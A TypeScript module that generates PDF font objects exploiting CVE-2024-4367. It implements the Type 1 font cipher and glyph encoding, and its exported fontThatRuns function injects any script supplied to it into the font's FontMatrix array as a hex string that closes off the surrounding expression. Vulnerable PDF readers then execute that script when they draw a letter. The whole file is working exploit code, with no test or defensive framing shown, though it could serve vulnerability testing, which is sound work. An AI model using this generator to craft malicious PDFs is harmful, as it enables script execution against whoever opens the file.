/** A Type 1 font within a PDF whose matrix holds a program: old readers ran it when they drew a letter (CVE-2024-4367). */

const latin = (bytes: readonly number[]): string => String.fromCharCode(...bytes);

/** The cipher of Type 1 fonts (Adobe, "Type 1 Font Format", chapter 7), behind four bytes that are thrown away. */
function encrypted(plain: string, key: number): string {
  let state = key;
  return latin(
    [..."\0\0\0\0", ...plain].map((letter) => {
      const cipher = letter.charCodeAt(0) ^ (state >> 8);
      state = ((cipher + state) * 52_845 + 22_719) & 0xffff;
      return cipher;
    }),
  );
}

const number = (value: number): readonly number[] =>
  value <= 107 ? [value + 139] : [((value - 108) >> 8) + 247, (value - 108) & 0xff];
/** A square, 500 wide: hsbw, rmoveto, hlineto, vlineto, hlineto, closepath, endchar. */
const SQUARE = latin([
  ...[...number(0), ...number(500), 13, ...number(0), ...number(0), 21, ...number(400), 6],
  ...[...number(400), 7, 139 - 100, 6, 9, 14],
]);

function glyph(name: string): string {
  const program = encrypted(SQUARE, 4_330);
  return `/${name} ${program.length} RD ${program} ND\n`;
}

/** The font and what it consists of, as objects of a PDF of which the first has the number `first`. */
export function fontThatRuns(script: string): (first: number) => readonly [font: string, ...parts: string[]] {
  return (first) => {
    const matrix = `[0.001 0 0 0.001 0 <${Buffer.from(`0); ${script} //`).toString("hex")}>]`;
    const head = `%!PS-AdobeFont-1.0: Mala\n/FontName /Mala def\n/FontType 1 def\n/Encoding StandardEncoding def\ncurrentfile eexec\n`;
    const glyphs = [".notdef", ..."Holaprecis"].map(glyph).join("");
    const inner = encrypted(
      `dup /Private 8 dict dup begin\n/lenIV 4 def\n/Subrs 0 array\n2 index /CharStrings 11 dict dup begin\n${glyphs}end\nend\nmark currentfile closefile\n`,
      55_665,
    );
    const tail = `${"0".repeat(64)}\ncleartomark\n`;
    const file = head + inner + tail;
    return [
      `<</Type/Font/Subtype/Type1/BaseFont/AAAAAA+Mala/FontMatrix ${matrix}/FirstChar 32/LastChar 126/Widths[${"500 ".repeat(95)}]/FontDescriptor ${first} 0 R/Encoding/WinAnsiEncoding>>`,
      `<</Type/FontDescriptor/FontName/AAAAAA+Mala/Flags 4/FontBBox[0 0 500 500]/ItalicAngle 0/Ascent 500/Descent 0/CapHeight 500/StemV 80/FontFile ${first + 1} 0 R>>`,
      `<</Length ${file.length}/Length1 ${head.length}/Length2 ${inner.length}/Length3 ${tail.length}>>stream\n${file}\nendstream`,
    ];
  };
}
